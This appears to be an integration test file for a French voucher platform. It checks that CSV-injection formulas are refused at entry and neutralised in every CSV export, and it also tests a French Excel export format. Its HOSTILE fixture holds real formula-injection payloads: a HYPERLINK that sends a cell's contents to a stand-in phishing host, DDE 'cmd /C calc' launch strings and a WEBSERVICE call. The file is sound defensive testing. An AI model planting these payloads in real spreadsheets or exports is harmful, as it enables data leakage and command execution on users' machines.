/**
 * Spreadsheet formula injection (issue 17, OWASP "CSV injection"): free text that begins like a
 * formula is refused at entry (each entity, and the place import), and every CSV export writes a
 * would-be formula put in the database directly (as legacy rows would hold it) with a leading
 * apostrophe. Plus the French spreadsheets' format, `?format=excel-fr`, read back with csv-parse.
 */
import { readFileSync } from 'node:fs';
import { parse } from 'csv-parse/sync';
import type TestAgent from 'supertest/lib/agent';
import { BEGINS_LIKE_FORMULA, CSV_FORMAT_PROBLEM, localDate, readsAsFormula } from '@app/domain';
import { ReportingRefreshService } from '@app/reporting';
import { PLACE_INPUT } from '../helpers/places';
import { redeem, redemptionFixture } from '../helpers/redemption';
import { loadTableSchema, validateTable } from '../helpers/table-schema';
import { DEMO, loginAs, startTestApp, type TestApp, TestClock } from '../helpers/test-app';

const SCHEMA = loadTableSchema('test/fixtures/schemas/lieux-mediation-numerique.schema.json');
const EXAMPLE = readFileSync('test/fixtures/schemas/lieux-mediation-numerique.exemple-valide.csv', 'utf8');

/** What legacy rows could hold: a link to a look-alike site, DDE commands, a function, each formula trigger. */
const HOSTILE = {
  placeName: '=HYPERLINK("https://hameconnage.example/?d="&A1,"Cliquez ici")',
  commune: "+33 cmd|' /C calc'!A0",
  service: "@SUM(1+1)*cmd|' /C calc'!A0",
  distributor: "-2+3+cmd|' /C calc'!A0",
  payee: '=1+1',
  holder: '\t=WEBSERVICE("https://x.example")',
  bankReference: '\r=1+1',
};

type Csv = string[][];

function readCsv(text: string, delimiter: ',' | ';' = ','): Csv {
  return parse(text, { bom: true, delimiter });
}

/** The cells a spreadsheet would run as a formula: none may be left. */
const formulaCells = (csv: Csv): string[] => csv.flat().filter(readsAsFormula);

/** The cell as a spreadsheet-safe export writes a would-be formula. */
const neutralised = (text: string): string => `'${text}`;

const validation = (field: string) => ({ code: 'validation_failed', details: [{ field, problems: [BEGINS_LIKE_FORMULA] }] });

describe('spreadsheet formula injection', () => {
  let testApp: TestApp;
  let operator: TestAgent;
  let placeAgent: TestAgent;
  let placeId: string;
  // The system time, except while the usage data is read from next month (it publishes finished months only).
  const clock = new TestClock();

  beforeAll(async () => {
    // A threshold of 2: the médiathèque's commune gets its own rows in usage.csv with a few more cheques.
    testApp = await startTestApp({ env: { SMALL_CELL_THRESHOLD: '2' }, clock });
    operator = await loginAs(testApp, DEMO.operatorAdmin);
    const fixture = await redemptionFixture(testApp);
    placeAgent = fixture.placeAgent;
    placeId = fixture.placeId;
    // Cheques redeemed this month at the médiathèque (Bordeaux), with the service renamed below.
    for (const code of fixture.codes.slice(0, 8)) await redeem(placeAgent, [code], fixture.workshopId).expect(201);
  });
  afterAll(() => testApp.close());

  describe('refused at entry, naming the field', () => {
    it('places: free text, on creation and on change; a phone number and a list dash stay accepted', async () => {
      for (const [field, value] of [
        ['nom', HOSTILE.placeName],
        ['commune', HOSTILE.commune],
        ['adresse', '@rue'],
        ['presentation_detail', '\t=1+1'],
        ['courriels', ['=cmd|x@lieu.example']],
        ['autres_formations_labels', ['-1+1']],
      ] as const) {
        const refused = await placeAgent
          .post('/api/places')
          .send({ ...PLACE_INPUT, [field]: value })
          .expect(400);
        expect([field, refused.body]).toEqual([field, expect.objectContaining(validation(field))]);
      }
      const accepted = await placeAgent
        .post('/api/places')
        .send({ ...PLACE_INPUT, pivot: '73282932000074', telephone: '+33556000000', presentation_detail: '- ateliers\n- permanences' })
        .expect(201);
      const changed = await placeAgent.patch(`/api/places/${accepted.body.id}`).send({ structure_parente: '+ville' }).expect(400);
      expect(changed.body).toMatchObject(validation('structure_parente'));
    });

    it('catalogue entries, organisations and bank account holders', async () => {
      const service = await placeAgent
        .post(`/api/places/${placeId}/catalogue`)
        .send({
          name: HOSTILE.service,
          category: 'Aide aux démarches administratives',
          modality: 'individual',
          durationMinutes: 60,
          priceInCheques: 1,
        })
        .expect(400);
      expect(service.body).toMatchObject(validation('name'));
      const description = await placeAgent
        .post(`/api/places/${placeId}/catalogue`)
        .send({
          name: 'Atelier',
          description: '=1+1',
          category: 'Aide aux démarches administratives',
          modality: 'individual',
          durationMinutes: 60,
          priceInCheques: 1,
        })
        .expect(400);
      expect(description.body).toMatchObject(validation('description'));

      const organisation = await operator.post('/api/organisations').send({ name: HOSTILE.distributor, kind: 'distributor' }).expect(400);
      expect(organisation.body).toMatchObject(validation('name'));

      const holder = await placeAgent
        .put('/api/bank-details')
        .send({ iban: 'FR7630006000011234567890189', bic: 'AGRIFRPP', accountHolder: '=HYPERLINK("https://x.example")' })
        .expect(400);
      expect(holder.body).toMatchObject(validation('accountHolder'));
    });

    it('the place import reports such a row as refused, with its line, field and reason, and does not import it', async () => {
      const [header, row] = EXAMPLE.trim().split(/\r?\n/);
      const hostile = row.replace('"structure-1"', '"formule-1"').replace('"Anonymal"', `"${HOSTILE.placeName.replaceAll('"', '""')}"`);
      expect(hostile).not.toBe(row);
      const checked = await operator
        .post('/api/place-imports?fileName=lieux.csv')
        .set('content-type', 'text/csv')
        .send(Buffer.from([header, row, hostile].join('\r\n')))
        .expect(201);
      expect(checked.body).toMatchObject({ rowCount: 2, validRowCount: 1 });
      expect(checked.body.problems).toEqual([{ line: 3, field: 'nom', problem: BEGINS_LIKE_FORMULA }]);
      const report = await operator.get(`/api/place-imports/${checked.body.id}/report.csv`).expect(200);
      expect(readCsv(report.text)).toEqual([
        ['line', 'field', 'problem'],
        ['3', 'nom', BEGINS_LIKE_FORMULA],
      ]);
      await operator.post(`/api/place-imports/${checked.body.id}/apply`).expect(200);
      expect(await testApp.dataSource.query("SELECT 1 FROM places WHERE national_id = 'formule-1'")).toEqual([]);
    });
  });

  describe('neutralised in every CSV export, whatever the database holds', () => {
    beforeAll(async () => {
      // Straight into the tables, as rows written before the entry rule would be.
      const query = testApp.dataSource.query.bind(testApp.dataSource);
      await query('UPDATE places SET nom = $1, commune = $2 WHERE id = $3', [HOSTILE.placeName, HOSTILE.commune, placeId]);
      await query("UPDATE catalogue_entries SET name = $1 WHERE place_id = $2 AND modality = 'collective_workshop'", [
        HOSTILE.service,
        placeId,
      ]);
      await query('UPDATE organisations SET name = $1 WHERE id = (SELECT organisation_id FROM users WHERE email = $2)', [
        HOSTILE.distributor,
        DEMO.distributorAgent,
      ]);
      await query('UPDATE settlement_lines SET payee_name = $1, account_holder = $2, bank_reference = $3', [
        HOSTILE.payee,
        HOSTILE.holder,
        HOSTILE.bankReference,
      ]);
      await operator.post('/api/reporting/refresh').expect(200);
    });

    it('places.csv (still valid against the national schema, phone numbers untouched) and qualifications.csv', async () => {
      const places = readCsv((await testApp.anonymous().get('/api/open-data/places.csv').expect(200)).text);
      expect(formulaCells(places)).toEqual([]);
      const [header, ...rows] = places;
      const records = rows.map((cells) => Object.fromEntries(header.map((column, index) => [column, cells[index]])));
      const mediatheque = records.find((record) => record.nom === neutralised(HOSTILE.placeName));
      expect(mediatheque).toMatchObject({ commune: neutralised(HOSTILE.commune) });
      expect(validateTable(SCHEMA, header, records)).toEqual([]);
      const phones = records.map((record) => record.telephone).filter((phone) => phone !== '');
      expect(phones.length).toBeGreaterThan(0);
      expect(phones.every((phone) => /^\+\d+$/.test(phone))).toBe(true);

      const register = readCsv((await testApp.anonymous().get('/api/open-data/qualifications.csv').expect(200)).text);
      expect(formulaCells(register)).toEqual([]);
      expect(register.flat()).toContain(neutralised(HOSTILE.placeName));
    });

    it('the redemptions export', async () => {
      for (const agent of [placeAgent, operator]) {
        const csv = readCsv((await agent.get('/api/redemptions/export.csv').expect(200)).text);
        expect(formulaCells(csv)).toEqual([]);
        expect(csv.flat()).toEqual(expect.arrayContaining([neutralised(HOSTILE.placeName), neutralised(HOSTILE.service)]));
      }
    });

    it('every table of the dashboard', async () => {
      const { body } = await operator.get('/api/reporting/dashboard').expect(200);
      const cells: string[] = [];
      for (const table of body.tables as Array<{ id: string }>) {
        const csv = readCsv((await operator.get(`/api/reporting/dashboard/${table.id}.csv`).expect(200)).text);
        expect([table.id, formulaCells(csv)]).toEqual([table.id, []]);
        cells.push(...csv.flat());
      }
      expect(cells).toEqual(
        expect.arrayContaining([neutralised(HOSTILE.placeName), neutralised(HOSTILE.commune), neutralised(HOSTILE.distributor)]),
      );
    });

    it('the open usage data', async () => {
      // This month's redemptions are published once the month is over.
      const [year, month] = localDate(new Date()).split('-').map(Number);
      clock.set(new Date(Date.UTC(year, month, 2, 10, 30))); // the 2nd of next month (months count from 0 here)
      try {
        await testApp.app.get(ReportingRefreshService).refresh();
        const csv = readCsv((await testApp.anonymous().get('/api/open-data/usage.csv').expect(200)).text);
        expect(formulaCells(csv)).toEqual([]);
        expect(csv.flat()).toContain(neutralised(HOSTILE.commune));
      } finally {
        clock.reset();
      }
    });

    it("a settlement batch's lines", async () => {
      const [batch]: Array<{ id: string }> = await testApp.dataSource.query(
        'SELECT batch_id AS id FROM settlement_lines ORDER BY position LIMIT 1',
      );
      const csv = readCsv((await operator.get(`/api/settlement/batches/${batch.id}/lines.csv`).expect(200)).text);
      expect(formulaCells(csv)).toEqual([]);
      expect(csv.flat()).toEqual(
        expect.arrayContaining([neutralised(HOSTILE.payee), neutralised(HOSTILE.holder), neutralised(HOSTILE.bankReference)]),
      );
    });
  });

  describe('?format=excel-fr for French spreadsheets', () => {
    /** The default file's cells with a decimal comma in the given columns: what excel-fr must hold. */
    const withDecimalComma = (csv: Csv, decimal: (column: number) => boolean): Csv =>
      csv.map((cells, line) => (line === 0 ? cells : cells.map((cell, column) => (decimal(column) ? cell.replace('.', ',') : cell))));

    it('places.csv: semicolons, decimal comma in the coordinates, a BOM, the same values; its own entity tag', async () => {
      const plain = await testApp.anonymous().get('/api/open-data/places.csv').expect(200);
      const excel = await testApp.anonymous().get('/api/open-data/places.csv?format=excel-fr').expect(200);
      expect(excel.headers['content-type']).toBe('text/csv; charset=utf-8');
      expect(excel.headers['content-disposition']).toContain('-excel.csv');
      expect(excel.text.charCodeAt(0)).toBe(0xfeff);
      const expected = readCsv(plain.text);
      const coordinates = new Set(['latitude', 'longitude'].map((column) => expected[0].indexOf(column)));
      const read = readCsv(excel.text, ';');
      expect(read).toEqual(withDecimalComma(expected, (column) => coordinates.has(column)));
      expect(read.slice(1).some((cells) => /^-?\d+,\d+$/.test(cells[[...coordinates][0]]))).toBe(true);

      expect(excel.headers.etag).not.toBe(plain.headers.etag);
      await testApp.anonymous().get('/api/open-data/places.csv?format=excel-fr').set('if-none-match', excel.headers.etag).expect(304);
      await testApp.anonymous().get('/api/open-data/places.csv?format=excel-fr').set('if-none-match', plain.headers.etag).expect(200);
      await testApp.anonymous().get('/api/open-data/places.csv?format=rfc4180').set('if-none-match', plain.headers.etag).expect(304);
    });

    it('every dashboard table: the same values, amounts with a decimal comma', async () => {
      const { body } = await operator.get('/api/reporting/dashboard').expect(200);
      let amounts = 0;
      for (const table of body.tables as Array<{ id: string; columns: Array<{ kind: string }> }>) {
        const plain = readCsv((await operator.get(`/api/reporting/dashboard/${table.id}.csv`).expect(200)).text);
        const excel = await operator.get(`/api/reporting/dashboard/${table.id}.csv?format=excel-fr`).expect(200);
        expect(excel.text.charCodeAt(0)).toBe(0xfeff);
        const read = readCsv(excel.text, ';');
        expect([table.id, read]).toEqual([table.id, withDecimalComma(plain, (column) => table.columns[column].kind !== 'text')]);
        amounts += read.slice(1).filter((cells) => cells.some((cell) => /^-?\d+,\d{2}$/.test(cell))).length;
      }
      expect(amounts).toBeGreaterThan(0);
    });

    it('refuses an unknown format, naming the parameter', async () => {
      for (const url of [
        '/api/open-data/places.csv?format=xlsx',
        '/api/open-data/places.csv?format=excel-fr&format=rfc4180',
        '/api/reporting/dashboard/lieux.csv?format=excel',
      ]) {
        const agent = url.includes('reporting') ? operator : testApp.anonymous();
        const refused = await agent.get(url).expect(400);
        expect([url, refused.body]).toEqual([
          url,
          { code: 'validation_failed', message: expect.any(String), details: [{ field: 'format', problems: [CSV_FORMAT_PROBLEM] }] },
        ]);
      }
    });

    it('is documented in the OpenAPI of both routes', async () => {
      const { body } = await testApp.anonymous().get('/api/openapi.json').expect(200);
      for (const path of ['/api/open-data/places.csv', '/api/reporting/dashboard/{tableId}.csv']) {
        const format = body.paths[path].get.parameters.find((parameter: { name: string }) => parameter.name === 'format');
        expect([path, format]).toEqual([
          path,
          expect.objectContaining({ in: 'query', required: false, schema: expect.objectContaining({ enum: ['rfc4180', 'excel-fr'] }) }),
        ]);
      }
    });
  });
});
